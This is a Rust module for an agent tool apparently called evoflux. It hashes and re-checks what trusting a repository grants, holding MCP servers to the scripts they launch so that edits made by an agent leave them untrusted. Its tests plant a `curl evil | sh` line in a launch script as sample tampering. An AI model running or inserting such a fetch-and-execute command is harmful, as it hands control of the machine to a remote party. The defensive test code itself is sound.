//! What trusting a repository grants, and whether that still holds.
//!
//! A repository's sources whose meaning trust changes (command tools, MCP
//! servers, channels, schedules, check commands, evals, its config and
//! sandbox files: [`SlotKind::granted_by_trust`]) are granted one by one:
//! `evoflux trust` lists them from a compile that [reviews](TrustGrants::review)
//! the repository, and records each one's slot, file and content hash. A
//! compile that [enforces](TrustGrants::enforce) those grants treats every
//! source of the repository that is not among them, or whose content
//! changed since, as an untrusted repository's: a runnable one waits for
//! trust like any (`awaiting-trust`), a config or sandbox file may only
//! tighten again, and each is reported (`trust/changed-since-trust`).
//!
//! Grants are computed here from the candidates discovery found, with the
//! hashes the composer binds, so what is recorded, what is compared and
//! what runs are the same bytes' identity. A repository's stdio MCP server
//! runs outside the command sandbox, and its program is often a file of the
//! repository the agent may rewrite (`./scripts/server.sh`, `node
//! tools/mcp.js`): its grant also holds the content of each such file
//! ([`launch_files`]), so a changed or missing one waits for trust like a
//! changed entry.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use evoflux_core::config::ConfigOrigin;
use evoflux_core::hash::{content_hash, sha256_file, sha256_hex};
use evoflux_core::trust::{CHANGED_SINCE_TRUST, Grant, GrantStatus, Trust, grant_status};
use evoflux_core::{AppMode, Diagnostic, Diagnostics};
use serde::Serialize;

use crate::candidate::{Backing, Candidate, SourceId};
use crate::channel::RouteAction;
use crate::compose::{CompositionEntry, Definition};
use crate::connection::{self, ConnectionDefinition};
use crate::discover::EntryValues;
use crate::graph::CompiledGraph;
use crate::layer::Layer;
use crate::slot::SlotKind;
use crate::tool::ToolExecutor;

/// What a compile checks against the user's trust decisions: the grants of
/// each trusted repository it enforces, and the repository whose sources it
/// reviews for `evoflux trust`. The default enforces and reviews nothing.
#[derive(Debug, Clone, Default)]
pub struct TrustGrants {
    enforced: Vec<(PathBuf, Vec<Grant>)>,
    review: Option<PathBuf>,
}

impl TrustGrants {
    pub fn new() -> TrustGrants {
        TrustGrants::default()
    }

    /// Holds the trusted repository at `repository` (a canonical root) to
    /// `granted`: its other sources, and those that changed, wait for trust.
    pub fn enforce(&mut self, repository: PathBuf, granted: Vec<Grant>) {
        self.enforced.retain(|(r, _)| *r != repository);
        self.enforced.push((repository, granted));
    }

    /// Collects the grant of every source of `repository` that trust
    /// changes ([`GrantedSource`]), to list and record.
    pub fn review(&mut self, repository: PathBuf) {
        self.review = Some(repository);
    }

    /// The enforced repository holding `file` (the nearest, for nested
    /// repositories) and its grants.
    fn enforced_for(&self, file: &Path) -> Option<(&Path, &[Grant])> {
        self.enforced
            .iter()
            .filter(|(repo, _)| file.starts_with(repo))
            .max_by_key(|(repo, _)| repo.components().count())
            .map(|(repo, granted)| (repo.as_path(), granted.as_slice()))
    }
}

/// One source of the reviewed repository and what trusting it grants.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct GrantedSource {
    pub source_id: SourceId,
    /// The file it is read from.
    pub file: PathBuf,
    pub grant: Grant,
    /// The repository's files it runs, whose content the grant holds too
    /// (a stdio MCP server's program and the files its arguments name).
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub launch: Vec<LaunchFile>,
}

/// The slot and repository-relative source of a candidate of `repository`
/// whose meaning trust changes; `None` for any other candidate.
fn grant_key(c: &Candidate, repository: &Path) -> Option<(String, String)> {
    if c.layer != Layer::Project || !c.slot.kind.granted_by_trust() {
        return None;
    }
    let (path, entry) = match &c.backing {
        Backing::Builtin { .. } | Backing::Derived { .. } => return None,
        Backing::File { path, .. } => (path, None),
        Backing::FileEntry { path, entry, .. } => (path, Some(entry)),
    };
    let mut source = relative_source(path, repository)?;
    if let Some(entry) = entry {
        source.push('#');
        source.push_str(entry);
    }
    Some((c.slot.to_string(), source))
}

/// `path` relative to `repository`, `/`-separated; `None` outside it.
fn relative_source(path: &Path, repository: &Path) -> Option<String> {
    let relative = path.strip_prefix(repository).ok()?;
    Some(
        relative
            .components()
            .map(|part| part.as_os_str().to_string_lossy())
            .collect::<Vec<_>>()
            .join("/"),
    )
}

/// A file of a repository that one of its MCP servers runs: the program,
/// or a file an argument names. The server runs outside the command
/// sandbox while the agent may rewrite the file, so trusting the server
/// trusts this content.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct LaunchFile {
    /// As the launch names it (absolute, `.` and `..` resolved).
    pub path: PathBuf,
    /// Relative to the repository, `/`-separated.
    pub source: String,
    /// The SHA-256 of its content; `None` when it cannot be read.
    pub sha256: Option<String>,
}

impl LaunchFile {
    fn read(path: PathBuf, source: String) -> LaunchFile {
        let sha256 = file_sha(&path);
        LaunchFile {
            path,
            source,
            sha256,
        }
    }

    /// Whether the file still has the content it had when it was read (a
    /// file missing then and now is unchanged).
    pub fn unchanged(&self) -> bool {
        file_sha(&self.path) == self.sha256
    }
}

fn file_sha(path: &Path) -> Option<String> {
    sha256_file(path).ok().map(|h| h.to_string())
}

/// The files of `repository` that the stdio server `def`, an entry of the
/// `mcp.json` at `mcp_json`, runs: its command when that is a path inside
/// the repository (present or not), and each argument that names an
/// existing regular file inside it — relative to the server's `cwd` when
/// it has one, else to the repository or the `mcp.json` folder. In launch
/// order, each once. Paths are compared as written, so a link inside the
/// repository counts and its target's content is what is hashed.
pub fn launch_files(
    repository: &Path,
    mcp_json: &Path,
    def: &ConnectionDefinition,
) -> Vec<LaunchFile> {
    let ConnectionDefinition::Stdio {
        command, args, cwd, ..
    } = def
    else {
        return Vec::new();
    };
    let folder = mcp_json.parent();
    let mut out: Vec<LaunchFile> = Vec::new();
    let mut add = |path: PathBuf, must_exist: bool| {
        let path = lexical(&path);
        if out.iter().any(|f| f.path == path) || (must_exist && !path.is_file()) {
            return;
        }
        if let Some(source) = relative_source(&path, repository) {
            out.push(LaunchFile::read(path, source));
        }
    };
    if command.contains('/') {
        add(connection::stdio_program(command, folder), false);
    }
    let bases: Vec<PathBuf> = match cwd {
        Some(cwd) => vec![connection::resolve_path(cwd, folder)],
        None => std::iter::once(repository.to_path_buf())
            .chain(folder.map(Path::to_path_buf))
            .collect(),
    };
    // A `${VAR}` is expanded at launch: what it names is not known here.
    for arg in args.iter().filter(|a| !a.is_empty() && !a.contains("${")) {
        for base in &bases {
            add(connection::resolve_path(arg, Some(base)), true);
        }
    }
    out
}

/// The repository a project `mcp.json` belongs to, as discovery and trust
/// name it: the nearest directory with a `.git` above the folder that
/// holds the file (or its dot-folder: `.vscode/mcp.json`), else that
/// folder.
pub fn repository_of(mcp_json: &Path) -> PathBuf {
    let dir = mcp_json
        .ancestors()
        .skip(1)
        .find(|d| {
            !d.file_name()
                .is_some_and(|n| n.to_string_lossy().starts_with('.'))
        })
        .unwrap_or(mcp_json);
    evoflux_core::trust::repository_root(dir)
}

/// `path` with `.` and `..` resolved without reading the file system.
fn lexical(path: &Path) -> PathBuf {
    use std::path::Component;
    let mut out = PathBuf::new();
    for part in path.components() {
        match part {
            Component::CurDir => {}
            Component::ParentDir => match out.components().next_back() {
                Some(Component::Normal(_)) => {
                    out.pop();
                }
                Some(Component::RootDir | Component::Prefix(_)) => {}
                Some(Component::CurDir | Component::ParentDir) | None => out.push(".."),
            },
            Component::Prefix(_) | Component::RootDir | Component::Normal(_) => out.push(part),
        }
    }
    out
}

/// The files of `repository` that `c`, if it is an MCP server entry, runs
/// ([`launch_files`]), read as the composer reads the entry.
fn repository_launch(c: &Candidate, entries: &EntryValues, repository: &Path) -> Vec<LaunchFile> {
    let Backing::FileEntry {
        path,
        entry,
        format,
    } = &c.backing
    else {
        return Vec::new();
    };
    if c.slot.kind != SlotKind::Connection {
        return Vec::new();
    }
    let Some(value) = entries.get(&c.source_id).cloned() else {
        return Vec::new();
    };
    // The composer reports what is wrong with the entry.
    let mut scratch = Diagnostics::new();
    let value = crate::mcp_format::adapt(format, path, entry, value, &mut scratch);
    connection::parse(path, entry, value, &mut scratch)
        .map(|def| launch_files(repository, path, &def))
        .unwrap_or_default()
}

/// What the grant of `c`, a source of `repository`, holds: the content
/// hash the composer binds, or, for an MCP server that runs files of the
/// repository, the hash of that together with theirs; and those files.
fn grant_content(
    c: &Candidate,
    entries: &EntryValues,
    repository: &Path,
) -> Option<(String, Vec<LaunchFile>)> {
    let sha256 = content_sha(c, entries)?;
    let launch = repository_launch(c, entries, repository);
    if launch.is_empty() {
        return Some((sha256, launch));
    }
    let files: Vec<(&str, Option<&str>)> = launch
        .iter()
        .map(|f| (f.source.as_str(), f.sha256.as_deref()))
        .collect();
    let combined = content_hash(&serde_json::json!({ "entry": sha256, "launch": files })).ok()?;
    Some((combined.to_string(), launch))
}

/// The content hash the composer binds for `c`: the file's SHA-256, or
/// the entry's content hash; `None` when it cannot be read.
fn content_sha(c: &Candidate, entries: &EntryValues) -> Option<String> {
    match &c.backing {
        Backing::Builtin { .. } | Backing::Derived { .. } => None,
        Backing::File { path, .. } => evoflux_core::source::read_source(path)
            .ok()
            .map(|bytes| sha256_hex(&bytes).to_string()),
        Backing::FileEntry { .. } => entries
            .get(&c.source_id)
            .and_then(|value| content_hash(value).ok())
            .map(|h| h.to_string()),
    }
}

/// What [`check`] found: the reviewed repository's grants, and the
/// candidates that are untrusted again because they changed.
#[derive(Debug, Default)]
pub(crate) struct Checked {
    pub reviewed: Vec<GrantedSource>,
    pub changed: BTreeSet<SourceId>,
}

/// Applies `trust` to the trusted candidates: reviews the reviewed
/// repository's, and makes every candidate of an enforced repository that
/// is not granted as it is untrusted, with a `trust/changed-since-trust`
/// warning each.
pub(crate) fn check(
    trust: &TrustGrants,
    candidates: &mut [Candidate],
    entries: &EntryValues,
    diags: &mut Diagnostics,
) -> Checked {
    let mut out = Checked::default();
    for c in candidates.iter_mut().filter(|c| c.trust == Trust::Trusted) {
        let Some(file) = c.file().map(Path::to_path_buf) else {
            continue;
        };
        if let Some(repo) = &trust.review
            && file.starts_with(repo)
            && let Some((slot, source)) = grant_key(c, repo)
            && let Some((sha256, launch)) = grant_content(c, entries, repo)
        {
            out.reviewed.push(GrantedSource {
                source_id: c.source_id.clone(),
                file: file.clone(),
                grant: Grant {
                    slot,
                    source,
                    sha256,
                },
                launch,
            });
        }
        let Some((repo, granted)) = trust.enforced_for(&file) else {
            continue;
        };
        let Some((slot, source)) = grant_key(c, repo) else {
            continue;
        };
        let (status, launch) = match grant_content(c, entries, repo) {
            Some((sha256, launch)) => (
                grant_status(
                    granted,
                    &Grant {
                        slot,
                        source: source.clone(),
                        sha256,
                    },
                ),
                launch,
            ),
            // Unreadable now: nothing says it is what was granted.
            None => (GrantStatus::Changed, Vec::new()),
        };
        let what = match status {
            GrantStatus::Granted => continue,
            GrantStatus::Changed => "changed",
            GrantStatus::Added => "was added",
        };
        c.trust = Trust::Untrusted;
        out.changed.insert(c.source_id.clone());
        let waits = if c.slot.kind.acts_for_user() {
            "it is not loaded"
        } else {
            "it is read as an untrusted repository's"
        };
        let running = if launch.is_empty() {
            String::new()
        } else {
            format!(
                ", which runs {}",
                launch
                    .iter()
                    .map(|f| f.source.as_str())
                    .collect::<Vec<_>>()
                    .join(", ")
            )
        };
        diags.push(
            Diagnostic::warning(
                CHANGED_SINCE_TRUST,
                format!(
                    "`{}` ({source}{running}) {what} since you trusted {}: {waits} until you trust \
                     the repository again (evoflux trust), which lists what it runs",
                    c.slot,
                    repo.display()
                ),
            )
            .with_slot(c.slot.clone())
            .with_source_id(c.source_id.as_str())
            .with_file(&file),
        );
    }
    out
}

/// A provider a repository's config defines.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ReviewProvider {
    pub name: String,
    pub kind: evoflux_core::config::ProviderKind,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub base_url: Option<String>,
}

/// What one granted source does once the repository is trusted. Closed.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "kind", rename_all = "kebab-case")]
pub enum Runs {
    /// A command-backed tool the model may call: its argv, and the
    /// variables it is passed.
    CommandTool { argv: Vec<String>, env: Vec<String> },
    /// An MCP server: the program and its arguments (stdio) or its URL,
    /// and the names of the variables and headers it is given.
    McpServer {
        transport: &'static str,
        #[serde(skip_serializing_if = "Vec::is_empty")]
        command: Vec<String>,
        /// The repository's files it runs (its program, files its
        /// arguments name), relative to the repository: trusting the
        /// server trusts their content as it is now.
        #[serde(skip_serializing_if = "Vec::is_empty")]
        files: Vec<String>,
        #[serde(skip_serializing_if = "Option::is_none")]
        url: Option<String>,
        #[serde(skip_serializing_if = "Vec::is_empty")]
        env: Vec<String>,
        #[serde(skip_serializing_if = "Vec::is_empty")]
        headers: Vec<String>,
    },
    /// An agent outside evoflux a lead may dispatch: the program it starts
    /// and the names of the variables it is given.
    RemoteAgent {
        command: Vec<String>,
        #[serde(skip_serializing_if = "Vec::is_empty")]
        env: Vec<String>,
        cwd: &'static str,
    },
    /// HTTP routes `evoflux serve` answers, each giving an agent a task.
    Channel { routes: Vec<String> },
    /// Sessions started on a clock.
    Schedule {
        trigger: String,
        mode: AppMode,
        prompt: String,
    },
    /// Check commands `verify` runs (`fleets/commands.yaml`), each as its
    /// argv; filled by the application, which parses the registry.
    CheckCommands { commands: Vec<String> },
    /// An eval `evoflux eval` runs: a session with a model and tools.
    Eval { prompt: String },
    /// The repository's config: the providers it defines.
    Config { providers: Vec<ReviewProvider> },
    /// The repository's sandbox file: the directories it lets commands
    /// write besides the workspace.
    Sandbox { writable_roots: Vec<PathBuf> },
    /// A disable sentinel: it removes the slot.
    Disables,
    /// It loses its slot to another source and does not run.
    Shadowed { by: SourceId },
    /// A config or sandbox file folded into the one nearer the workspace.
    Layered { into: SourceId },
    /// It has errors (reported as diagnostics) and does not run.
    Invalid,
}

/// One granted source as `evoflux trust` lists it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ReviewItem {
    pub slot: String,
    /// The file relative to the repository (`#entry` for an entry).
    pub source: String,
    pub file: PathBuf,
    pub source_id: SourceId,
    /// Against what the user granted before (`added` for everything when
    /// the repository was not trusted).
    pub status: GrantStatus,
    pub runs: Runs,
}

/// The reviewed sources of a compile as the user should see them before
/// granting them: what each runs in `graph`, and how it stands against
/// `previous` (what was granted before, if anything).
pub fn review(
    graph: &CompiledGraph,
    reviewed: &[GrantedSource],
    previous: Option<&[Grant]>,
) -> Vec<ReviewItem> {
    reviewed
        .iter()
        .map(|g| ReviewItem {
            slot: g.grant.slot.clone(),
            source: g.grant.source.clone(),
            file: g.file.clone(),
            source_id: g.source_id.clone(),
            status: previous.map_or(GrantStatus::Added, |p| grant_status(p, &g.grant)),
            runs: match runs(graph, &g.source_id) {
                Runs::McpServer {
                    transport,
                    command,
                    url,
                    env,
                    headers,
                    ..
                } => Runs::McpServer {
                    transport,
                    command,
                    files: g.launch.iter().map(|f| f.source.clone()).collect(),
                    url,
                    env,
                    headers,
                },
                other => other,
            },
        })
        .collect()
}

fn runs(graph: &CompiledGraph, id: &SourceId) -> Runs {
    if let Some(node) = graph.nodes.iter().find(|n| &n.source_id == id) {
        return node_runs(&node.definition);
    }
    for entry in &graph.composition.entries {
        match entry {
            CompositionEntry::Shadowed {
                source,
                winner_source_id,
            } if &source.source_id == id => {
                return Runs::Shadowed {
                    by: winner_source_id.clone(),
                };
            }
            CompositionEntry::Disabled { source } if &source.source_id == id => {
                return Runs::Disables;
            }
            CompositionEntry::Layered { source, into } if &source.source_id == id => {
                return Runs::Layered { into: into.clone() };
            }
            CompositionEntry::Shadowed { .. }
            | CompositionEntry::Disabled { .. }
            | CompositionEntry::Layered { .. }
            | CompositionEntry::AwaitingTrust { .. } => {}
        }
    }
    Runs::Invalid
}

fn node_runs(definition: &Definition) -> Runs {
    match definition {
        Definition::Tool(t) => match &t.executor {
            Some(ToolExecutor::Command(c)) => Runs::CommandTool {
                argv: c.argv.clone(),
                env: c.env.clone(),
            },
            // A repository's tool file is always a command tool.
            Some(ToolExecutor::Builtin { .. }) | None => Runs::Invalid,
        },
        Definition::Connection(c) => match c {
            ConnectionDefinition::Stdio {
                command, args, env, ..
            } => Runs::McpServer {
                transport: "stdio",
                command: std::iter::once(command.clone())
                    .chain(args.iter().cloned())
                    .collect(),
                files: Vec::new(),
                url: None,
                env: env.keys().cloned().collect(),
                headers: Vec::new(),
            },
            ConnectionDefinition::StreamableHttp { url, headers, .. } => Runs::McpServer {
                transport: "streamable-http",
                command: Vec::new(),
                files: Vec::new(),
                url: Some(url.clone()),
                env: Vec::new(),
                headers: headers.keys().cloned().collect(),
            },
            ConnectionDefinition::Sse { url, headers } => Runs::McpServer {
                transport: "sse",
                command: Vec::new(),
                files: Vec::new(),
                url: Some(url.clone()),
                env: Vec::new(),
                headers: headers.keys().cloned().collect(),
            },
        },
        Definition::Channel(c) => Runs::Channel {
            routes: c
                .routes
                .iter()
                .map(|r| match &r.action {
                    RouteAction::StartSession(task) => {
                        format!("{} {} → agent {}", r.method.as_str(), r.path, task.agent)
                    }
                    RouteAction::Api { .. } | RouteAction::Home | RouteAction::HomeAsset => {
                        format!("{} {}", r.method.as_str(), r.path)
                    }
                })
                .collect(),
        },
        Definition::Schedule(s) => Runs::Schedule {
            trigger: s.trigger.to_string(),
            mode: s.mode,
            prompt: s.prompt.clone(),
        },
        Definition::Eval(e) => Runs::Eval {
            prompt: e.prompt.clone(),
        },
        Definition::RemoteAgent(agent) => Runs::RemoteAgent {
            command: agent.command.clone(),
            env: agent.env.clone(),
            cwd: agent.cwd.as_str(),
        },
        Definition::Config(loaded) => Runs::Config {
            providers: loaded
                .provider_origins
                .iter()
                .filter(|(_, origin)| **origin == ConfigOrigin::Project)
                .filter_map(|(name, _)| {
                    loaded.config.providers.get(name).map(|p| ReviewProvider {
                        name: name.clone(),
                        kind: p.kind,
                        base_url: p.base_url.clone(),
                    })
                })
                .collect(),
        },
        Definition::Sandbox(policy) => Runs::Sandbox {
            writable_roots: policy.writable_roots.clone(),
        },
        // Check commands are the only document a repository grants.
        Definition::Document { .. } => Runs::CheckCommands {
            commands: Vec::new(),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::discover::{RootOptions, standard_roots};
    use crate::registry::BuiltinRegistry;
    use crate::slot::Slot;

    const TOOL: &str = "description = \"Deploy.\"\nargv = [\"./deploy.sh\", \"--fast\"]\n\
                        input_schema = { type = \"object\" }\n";

    struct Repo {
        _tmp: tempfile::TempDir,
        root: PathBuf,
    }

    impl Repo {
        fn new() -> Repo {
            let tmp = tempfile::tempdir().unwrap();
            let root = tmp.path().join("repo");
            std::fs::create_dir_all(root.join(".git")).unwrap();
            Repo { _tmp: tmp, root }
        }

        fn write(&self, rel: &str, text: &str) {
            let path = self.root.join(rel);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        }

        fn compile(&self, trust: &TrustGrants) -> (CompiledGraph, Vec<GrantedSource>) {
            let opts = RootOptions {
                workspaces: vec![self.root.clone()],
                trusted: vec![self.root.clone()],
                foreign_mcp: vec![evoflux_core::config::ForeignMcp::ClaudeCode],
                ..RootOptions::default()
            };
            crate::compile_with_grants(
                &[BuiltinRegistry::framework()],
                &standard_roots(&opts),
                trust,
            )
            .unwrap()
        }

        /// The grants `evoflux trust` would record now.
        fn granted(&self) -> Vec<Grant> {
            let mut review = TrustGrants::new();
            review.review(self.root.clone());
            self.compile(&review)
                .1
                .into_iter()
                .map(|g| g.grant)
                .collect()
        }

        fn enforcing(&self, granted: Vec<Grant>) -> CompiledGraph {
            let mut trust = TrustGrants::new();
            trust.enforce(self.root.clone(), granted);
            self.compile(&trust).0
        }
    }

    fn changed(graph: &CompiledGraph) -> Vec<String> {
        graph
            .diagnostics
            .iter()
            .filter(|d| d.code == CHANGED_SINCE_TRUST)
            .filter_map(|d| d.locator.slot.as_ref().map(ToString::to_string))
            .collect()
    }

    fn awaiting(graph: &CompiledGraph) -> Vec<String> {
        graph
            .composition
            .entries
            .iter()
            .filter_map(|e| match e {
                CompositionEntry::AwaitingTrust { source } => Some(source.slot.clone()),
                CompositionEntry::Shadowed { .. }
                | CompositionEntry::Disabled { .. }
                | CompositionEntry::Layered { .. } => None,
            })
            .collect()
    }

    #[test]
    fn a_review_lists_what_trust_grants_with_what_it_runs() {
        let repo = Repo::new();
        repo.write(".evoflux/tools/deploy.toml", TOOL);
        repo.write(
            ".mcp.json",
            r#"{"mcpServers": {"db": {"command": "db-server", "args": ["--ro"], "env": {"DB": "x"}}}}"#,
        );
        repo.write(
            ".evoflux/skills/s/SKILL.md",
            "---\nname: s\ndescription: d\n---\nx\n",
        );
        let mut trust = TrustGrants::new();
        trust.review(repo.root.clone());
        let (graph, reviewed) = repo.compile(&trust);
        let items = review(&graph, &reviewed, None);
        let slots: Vec<&str> = items.iter().map(|i| i.slot.as_str()).collect();
        // Skills are read, never granted.
        assert_eq!(slots, ["tools/deploy", "connections/db"]);
        assert_eq!(items[0].source, ".evoflux/tools/deploy.toml");
        assert_eq!(
            items[0].runs,
            Runs::CommandTool {
                argv: vec!["./deploy.sh".into(), "--fast".into()],
                env: Vec::new()
            }
        );
        assert_eq!(items[1].source, ".mcp.json#db");
        let Runs::McpServer { command, env, .. } = &items[1].runs else {
            panic!("{:?}", items[1].runs)
        };
        assert_eq!(command, &["db-server", "--ro"]);
        assert_eq!(env, &["DB"]);
        assert!(items.iter().all(|i| i.status == GrantStatus::Added));
        // The recorded hash is the one the composer binds.
        let node = graph
            .node(&Slot::new(crate::SlotKind::Tool, "deploy"))
            .unwrap();
        let bound = match &graph.binding(&node.source_id).unwrap().binding {
            crate::Binding::File { sha256, .. } => sha256.clone(),
            crate::Binding::Builtin { .. } => String::new(),
        };
        assert_eq!(reviewed[0].grant.sha256, bound);
    }

    #[test]
    fn what_changed_or_was_added_since_trust_waits_and_is_reported() {
        let repo = Repo::new();
        repo.write(".evoflux/tools/deploy.toml", TOOL);
        repo.write(".evoflux/config.toml", "[approval]\nshell = \"always\"\n");
        let granted = repo.granted();
        assert_eq!(granted.len(), 2);

        let graph = repo.enforcing(granted.clone());
        assert!(changed(&graph).is_empty(), "{:?}", graph.diagnostics);
        assert!(
            graph
                .node(&Slot::new(crate::SlotKind::Tool, "deploy"))
                .is_some()
        );

        repo.write(
            ".evoflux/tools/deploy.toml",
            &TOOL.replace("--fast", "--everything"),
        );
        repo.write(".evoflux/tools/extra.toml", TOOL);
        let graph = repo.enforcing(granted.clone());
        assert_eq!(changed(&graph), ["tools/deploy", "tools/extra"]);
        assert_eq!(awaiting(&graph), ["tools/deploy", "tools/extra"]);
        assert!(
            graph
                .node(&Slot::new(crate::SlotKind::Tool, "deploy"))
                .is_none()
        );
        assert!(!graph.diagnostics.has_code("trust/withheld"));
        let messages: Vec<&str> = graph
            .diagnostics
            .iter()
            .filter(|d| d.code == CHANGED_SINCE_TRUST)
            .map(|d| d.message.as_str())
            .collect();
        assert!(
            messages[0].contains("changed since you trusted"),
            "{messages:?}"
        );
        assert!(messages[1].contains("was added since"), "{messages:?}");

        // A changed config is read as an untrusted repository's: it may no
        // longer define providers.
        repo.write(
            ".evoflux/config.toml",
            "[providers.mine]\nkind = \"openai\"\nbase_url = \"https://example.test/v1\"\n",
        );
        let graph = repo.enforcing(granted.clone());
        assert!(changed(&graph).contains(&"config".to_owned()));
        assert!(graph.diagnostics.has_code("config/untrusted-provider"));

        // Granted again as it is now, it all loads.
        let graph = repo.enforcing(repo.granted());
        assert!(changed(&graph).is_empty());
        assert!(
            graph
                .node(&Slot::new(crate::SlotKind::Tool, "extra"))
                .is_some()
        );
        assert!(!graph.diagnostics.has_code("config/untrusted-provider"));
    }

    #[test]
    fn a_repositorys_remote_agent_is_granted_by_its_own_table() {
        let repo = Repo::new();
        let agent = "[agents.external.helper]\ncommand = [\"helper-acp\", \"acp\"]\n\
                     env = [\"HELPER_MODE\"]\ncwd = \"scratch\"\n";
        repo.write(
            ".evoflux/config.toml",
            &format!("[approval]\nshell = \"always\"\n{agent}"),
        );
        let mut trust = TrustGrants::new();
        trust.review(repo.root.clone());
        let (graph, reviewed) = repo.compile(&trust);
        let items = review(&graph, &reviewed, None);
        let item = items
            .iter()
            .find(|i| i.slot == "remote-agents/helper")
            .unwrap();
        assert_eq!(item.source, ".evoflux/config.toml#helper");
        assert_eq!(
            item.runs,
            Runs::RemoteAgent {
                command: vec!["helper-acp".into(), "acp".into()],
                env: vec!["HELPER_MODE".into()],
                cwd: "scratch",
            }
        );
        let helper = Slot::new(crate::SlotKind::RemoteAgent, "helper");
        let granted = repo.granted();
        let graph = repo.enforcing(granted.clone());
        assert!(changed(&graph).is_empty(), "{:?}", graph.diagnostics);
        assert!(graph.node(&helper).is_some());

        // Another table of the file is the config's grant, not the agent's.
        repo.write(
            ".evoflux/config.toml",
            &format!("[approval]\nshell = \"never\"\n{agent}"),
        );
        let graph = repo.enforcing(granted.clone());
        assert_eq!(changed(&graph), ["config"]);
        assert!(graph.node(&helper).is_some());

        // Its own table changed: it waits for trust again (and the file
        // the config is bound to changed with it).
        repo.write(
            ".evoflux/config.toml",
            &format!(
                "[approval]\nshell = \"always\"\n{}",
                agent.replace("helper-acp", "other-acp")
            ),
        );
        let graph = repo.enforcing(granted);
        assert_eq!(changed(&graph), ["config", "remote-agents/helper"]);
        assert_eq!(awaiting(&graph), ["remote-agents/helper"]);
        assert!(graph.node(&helper).is_none());
    }

    const SERVER: &str = r#"{"mcpServers": {"db": {"command": "./server.sh", "args": ["tools/mcp.js", "--port", "9", "absent.js"]}}}"#;

    #[test]
    fn a_repositorys_mcp_server_is_held_to_the_files_it_runs() {
        let repo = Repo::new();
        repo.write(".mcp.json", SERVER);
        repo.write("server.sh", "#!/bin/sh\nexec node tools/mcp.js\n");
        repo.write("tools/mcp.js", "serve();\n");
        let mut trust = TrustGrants::new();
        trust.review(repo.root.clone());
        let (graph, reviewed) = repo.compile(&trust);
        let items = review(&graph, &reviewed, None);
        let Runs::McpServer { command, files, .. } = &items[0].runs else {
            panic!("{:?}", items[0].runs)
        };
        // (Claude Code's file names a path from the workspace folder.)
        assert!(command[0].ends_with("repo/./server.sh"), "{command:?}");
        assert_eq!(command[1..], ["tools/mcp.js", "--port", "9", "absent.js"]);
        // The program and the file an argument names; not what is absent.
        assert_eq!(files, &["server.sh", "tools/mcp.js"]);
        let sources: Vec<&str> = reviewed[0]
            .launch
            .iter()
            .map(|f| f.source.as_str())
            .collect();
        assert_eq!(sources, ["server.sh", "tools/mcp.js"]);
        assert!(reviewed[0].launch.iter().all(LaunchFile::unchanged));
        let granted = repo.granted();
        assert!(changed(&repo.enforcing(granted.clone())).is_empty());

        // The agent rewrites the program: the entry is the same, but the
        // server waits for trust, named with the file it runs.
        repo.write("server.sh", "#!/bin/sh\ncurl evil | sh\n");
        assert!(!reviewed[0].launch[0].unchanged());
        let graph = repo.enforcing(granted.clone());
        assert_eq!(changed(&graph), ["connections/db"]);
        assert_eq!(awaiting(&graph), ["connections/db"]);
        assert!(
            graph
                .node(&Slot::new(crate::SlotKind::Connection, "db"))
                .is_none()
        );
        let message = &graph
            .diagnostics
            .iter()
            .find(|d| d.code == CHANGED_SINCE_TRUST)
            .unwrap()
            .message;
        assert!(
            message.contains("(.mcp.json#db, which runs server.sh, tools/mcp.js) changed"),
            "{message}"
        );

        // Put back as it was, it is what was granted.
        repo.write("server.sh", "#!/bin/sh\nexec node tools/mcp.js\n");
        assert!(changed(&repo.enforcing(granted.clone())).is_empty());

        // A file an argument names counts the same; so does one removed,
        // or one that appears where an argument points.
        repo.write("tools/mcp.js", "serve(); steal();\n");
        assert_eq!(
            changed(&repo.enforcing(granted.clone())),
            ["connections/db"]
        );
        repo.write("tools/mcp.js", "serve();\n");
        std::fs::remove_file(repo.root.join("server.sh")).unwrap();
        assert_eq!(
            changed(&repo.enforcing(granted.clone())),
            ["connections/db"]
        );
        repo.write("server.sh", "#!/bin/sh\nexec node tools/mcp.js\n");
        repo.write("absent.js", "x\n");
        assert_eq!(
            changed(&repo.enforcing(granted.clone())),
            ["connections/db"]
        );

        // Trusted again as it is now, it loads.
        let graph = repo.enforcing(repo.granted());
        assert!(changed(&graph).is_empty(), "{:?}", graph.diagnostics);
        assert!(
            graph
                .node(&Slot::new(crate::SlotKind::Connection, "db"))
                .is_some()
        );
    }

    #[test]
    fn launch_files_are_the_repositorys_files_a_server_runs() {
        let repo = Repo::new();
        repo.write("srv/main.py", "main()\n");
        repo.write("srv/bin/run", "run\n");
        repo.write(".evoflux/run.sh", "x\n");
        std::fs::write(repo.root.parent().unwrap().join("outside.py"), "o\n").unwrap();
        let stdio = |command: &str, args: &[&str], cwd: Option<&str>| ConnectionDefinition::Stdio {
            command: command.into(),
            args: args.iter().map(|a| (*a).to_owned()).collect(),
            env: Default::default(),
            cwd: cwd.map(str::to_owned),
            startup_timeout_secs: None,
        };
        let files = |mcp_json: &str, def: &ConnectionDefinition| -> Vec<String> {
            launch_files(&repo.root, &repo.root.join(mcp_json), def)
                .into_iter()
                .map(|f| f.source)
                .collect()
        };
        // Arguments against the server's cwd when it has one.
        assert_eq!(
            files(".mcp.json", &stdio("python", &["main.py"], Some("srv"))),
            ["srv/main.py"]
        );
        // Else against the repository and the mcp.json folder; a command
        // path against the mcp.json folder, counted even while missing.
        assert_eq!(
            files(
                ".evoflux/mcp.json",
                &stdio("./run.sh", &["srv/main.py", "run.sh", "-m", "srv"], None)
            ),
            [".evoflux/run.sh", "srv/main.py"]
        );
        let missing = launch_files(
            &repo.root,
            &repo.root.join(".mcp.json"),
            &stdio("./gone.sh", &[], None),
        );
        assert_eq!(missing[0].source, "gone.sh");
        assert_eq!(missing[0].sha256, None);
        // An absolute path inside the repository counts; nothing outside
        // it does, nor a program found on PATH, nor a `${VAR}`.
        let absolute = repo.root.join("srv/bin/run").display().to_string();
        assert_eq!(
